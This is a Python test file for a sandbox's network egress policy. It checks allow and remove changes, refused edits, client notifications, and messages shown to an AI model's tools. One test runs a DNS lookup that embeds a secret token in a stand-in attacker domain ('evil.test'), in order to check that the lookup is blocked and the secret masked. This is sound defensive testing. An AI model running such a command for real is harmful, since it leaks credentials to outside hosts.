# SPDX-License-Identifier: Apache-2.0
"""atoll policy: what a sandbox may reach, changed while it stands; who hears of it, and what stays as it was."""
import json
import socket
import unittest

from tool_support import ToolTest  # first: it says where the other modules are
from support import PYTHON, HeldTest

import protocol
from protocol import Tag, Type

CLOSED = {"allow_egress_to": [], "allow_egress_to_cidrs": [], "block_network": True}
# Says how connecting to ADDRESS PORT fails.
CONNECT = ("import socket, sys\n"
           "try:\n"
           "    socket.create_connection((sys.argv[1], int(sys.argv[2])), 1)\n"
           "    print('connected')\n"
           "except OSError as e:\n"
           "    print(type(e).__name__)\n")


class PolicyTest(HeldTest):
    def policy(self, box, *arguments):
        return self.json("policy", box, *arguments)

    def outcome(self, box, address, port):
        done = self.atoll("exec", box, "--", PYTHON, "-c", CONNECT, address, str(port))
        self.assertEqual(done.status, 0, done.err)
        return done.out.decode().strip()

    def refused(self, box, *arguments, words):
        """A change that is refused leaves everything as it was."""
        before = self.policy(box)
        done = self.atoll("policy", box, *arguments)
        self.assertEqual((done.status, done.out), (125, b""))
        for word in words:
            self.assertIn(word, done.err.decode())
        self.assertEqual(self.policy(box), before)

    def test_a_sealed_sandbox_is_opened_for_what_is_listed_and_closed_again(self):
        box = self.create("--lifetime", "120s")
        self.assertEqual(self.policy(box), {"id": box, "network": CLOSED, "generation": 1, "flows_cut": 0})
        self.assertIn("no network", self.good("policy", box).decode())
        changed = self.policy(box, "--allow", "example.org", "--allow-cidr", "192.0.2.0/24")
        self.assertEqual(changed["generation"], 2)
        self.assertEqual(changed["network"], CLOSED | {
            "allow_egress_to": ["example.org"], "allow_egress_to_cidrs": ["192.0.2.0/24"]})
        self.assertEqual(self.json("inspect", box)["network"], changed["network"])
        # Outside the range nothing changes; inside it is no longer the policy that refuses.
        self.assertEqual(self.outcome(box, "198.51.100.1", 80), "ConnectionRefusedError")
        self.assertIn("198.51.100.1:80", self.good("events", box).decode())
        self.assertNotIn("192.0.2.1", self.good("events", box).decode().replace("192.0.2.0/24", ""))
        back = self.policy(box, "--remove", "example.org", "--remove", "192.0.2.0/24")
        self.assertEqual((back["network"], back["generation"]), (CLOSED, 3))
        self.assertEqual(self.outcome(box, "192.0.2.1", 80), "ConnectionRefusedError")

    def test_names_follow_the_policy(self):
        lookup = "getent ahosts example.org >/dev/null && echo found || echo none"
        box = self.create("--lifetime", "120s", "--allow", "example.net")
        self.assertIn(b"none", self.atoll("exec", box, "--", "sh", "-c", lookup).out)
        self.good("policy", box, "--allow", "example.org:22", "--remove", "example.net:443")
        gone = self.atoll("exec", box, "--", "sh", "-c", lookup.replace("example.org", "example.net"))
        self.assertIn(b"none", gone.out)
        self.assertIn(b"atoll: refused: example.net (", gone.err)
        self.assertNotIn(b"refused", self.atoll("exec", box, "--", "sh", "-c", lookup).err)

    def test_what_is_there_already_changes_nothing(self):
        box = self.create("--lifetime", "120s", "--allow", "example.org")
        self.assertEqual(self.policy(box, "--allow", "EXAMPLE.ORG:443")["generation"], 1)
        self.assertEqual(self.good("events", box, "--kind", "policy"), b"")

    def test_a_change_that_cannot_be_is_refused_as_a_whole(self):
        box = self.create("--lifetime", "120s", "--allow", "example.org", "--allow-cidr", "10.0.0.0/8")
        self.refused(box, "--remove", "absent.test", words=["absent.test", "example.org", "10.0.0.0/8"])
        self.refused(box, "--allow", "new.test", "--remove", "absent.test", words=["absent.test"])
        self.refused(box, "--allow", "https://new.test/", words=["https://new.test/"])
        self.refused(box, "--allow-cidr", "10.0.0.0/33", words=["10.0.0.0/33"])
        self.refused(box, "--allow-cidr", "0.0.0.0/0", words=["0.0.0.0/0"])
        self.assertEqual(self.good("events", box, "--kind", "policy"), b"")

    def test_an_open_network_cannot_be_changed(self):
        box = self.create("--lifetime", "120s", "--open-network")
        self.refused(box, "--allow", "example.org", words=["open", "new sandbox"])
        self.assertIn("open", self.good("policy", box).decode())

    def client(self, box, minor):
        """A client of the sandbox's keeper, greeted with that version."""
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        sock.connect(str(self.state / box / "control"))
        client = protocol.Connection(sock)
        self.addCleanup(client.close)
        client.greet(minor)
        return client

    def test_other_clients_hear_of_it_if_they_know_how(self):
        box = self.create("--lifetime", "120s")
        newer, older = self.client(box, 2), self.client(box, 1)
        changed = self.policy(box, "--allow", "example.org")
        told = newer.expect(Type.POLICY_SET, 0)
        self.assertEqual(json.loads(told[Tag.NETWORK]), changed["network"])
        self.assertEqual(told[Tag.POLICY_GENERATION], 2)
        number = older.request(Type.PS)
        self.assertEqual(older.receive().id, number)  # and nothing before it

    def test_edits_that_are_no_edits_are_refused(self):
        box = self.create("--lifetime", "120s")
        client = self.client(box, 2)
        client.send(Type.POLICY, 7, protocol.FIELD.pack(Tag.REMOVE, 0, 3) + b"abc")
        answer = client.receive()
        self.assertEqual((answer.type, answer.id), (Type.ERROR, 7))
        self.assertEqual(self.policy(box)["generation"], 1)


class ModelTest(ToolTest):
    def test_a_model_is_told_what_was_refused(self):
        tools = self.opened(settings={"spec.allow_egress_to": "example.org"})
        script = "import socket; socket.create_connection(('192.0.2.9', 8080))"
        answer = tools.call("run_command", command=f"{PYTHON} -c \"{script}\" 2>/dev/null")
        self.assertEqual(
            answer.text.splitlines()[-1],
            "[exit code: 1] [refused by the network policy: tcp 192.0.2.9:8080. Trying again does not help.]")
        (denied,) = answer.facts["denied"]
        self.assertEqual((denied["protocol"], denied["address"], denied["port"]), ("tcp", "192.0.2.9", 8080))
        answer = tools.call("run_command", command="true")
        self.assertNotIn("refused", answer.text)
        self.assertNotIn("denied", answer.facts)

    def test_a_secret_in_a_name_is_masked(self):
        tools = self.opened(settings={"spec.allow_egress_to": "example.org", "toolset.mask": "TOKEN", "spec.env": "TOKEN=hunter22"})
        answer = tools.call("run_command", command="getent hosts $TOKEN.evil.test")
        self.assertIn("[refused by the network policy: dns ", answer.text)
        self.assertNotIn("hunter22", answer.text)
        self.assertNotIn("hunter22", json.dumps(answer.facts))

    def test_the_next_result_of_any_tool_tells_of_a_change_once(self):
        box = self.create("--lifetime", "300s", "--allow", "example.org", "--owner", "me")
        tools = self.opened(settings={"toolset.attach_to": box, "toolset.owner": "me"})
        self.assert_refused(self.atoll("policy", box, "--allow", "git.test:22"), "is held by 'me'")
        self.env["ATOLL_LEASE"] = f"{box}#1"
        described = tools.tools
        self.assertNotIn("policy was changed", tools.call("run_command", command="true").text)
        self.good("policy", box, "--allow", "git.test:22", "--remove", "example.org")
        note = "[the network policy was changed; this can be reached now, and nothing else: git.test:22]"
        self.assertEqual(tools.call("list_directory").text.splitlines()[-1], note)
        self.assertNotIn("policy was changed", tools.call("run_command", command="true").text)
        self.good("policy", box, "--remove", "git.test:22")
        self.assertEqual(
            tools.call("run_command", command="true").text.splitlines()[-1],
            "[the network policy was changed; nothing can be reached any more]")
        self.assertEqual(tools.tools, described)


if __name__ == "__main__":
    unittest.main()
